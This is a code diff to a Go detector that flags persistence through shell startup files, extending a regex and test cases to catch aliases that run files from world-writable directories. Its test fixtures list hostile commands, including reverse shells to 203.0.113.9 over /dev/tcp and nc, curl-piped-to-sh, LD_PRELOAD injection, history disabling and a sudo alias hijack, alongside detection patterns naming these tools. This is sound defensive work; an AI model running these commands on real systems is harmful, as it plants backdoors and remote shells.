@@ -24,13 +24,13 @@ var persistRC = Detector{
 		return rcLevel(w)
 	})),
 	Fire: append(lines(coi.High, "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > .git/hooks/pre-commit", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
-		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc", "sudo install -m 755 /tmp/e.sh /etc/profile.d/e.sh")...),
+		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo \"alias ls='ls;/tmp/.u'\" >> ~/.bashrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc", "sudo install -m 755 /tmp/e.sh /etc/profile.d/e.sh")...),
 	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "echo 'npx lint-staged' > .husky/pre-commit", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT", "echo 'ulimit -c 0' >> ~/.bashrc"),
 }
 
 var (
 	rcHot     = regexp.MustCompile(`(?i)PROMPT_COMMAND=.{0,40}(?:curl|wget|/dev/tcp|logger|\bnc\b|tee\b)|/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
-	rcOdd     = regexp.MustCompile(`(?m)(?:^|[;&\s"'])(?:source|\.)\s+(?:/tmp|/var/tmp|/dev/shm)/`)
+	rcOdd     = regexp.MustCompile(`(?m)(?:^|[;&\s"'])(?:source|\.)\s+(?:/tmp|/var/tmp|/dev/shm)/|(?m)^[-\w\s"']*alias\s+\w+=\S*[;&|]\s*(?:/tmp|/var/tmp|/dev/shm)/`)
 	rcPrompt  = regexp.MustCompile(`PROMPT_COMMAND=["']?[^"'\n]*(?:/tmp/|/var/tmp/|/dev/shm/|/\.\w)`)
 	rcComment = regexp.MustCompile(`^\s*#`)
 )
@@ -52,7 +52,7 @@ func rcLevel(w written) (coi.Level, string) {
 		return coi.Warning, "every prompt starts a program in a hiding place"
 	}
 	if rcOdd.MatchString(w.text) {
-		return coi.Warning, "start file of a shell reads a file that anybody may write"
+		return coi.Warning, "start file of a shell runs a file that anybody may write"
 	}
 	if w.s != nil && !w.known && w.s.Is("cp", "install", "mv") && slices.ContainsFunc(w.s.Parsed().Rest, program.Writable) {
 		return coi.Warning, "start file of a shell copied from a place that anybody may write"
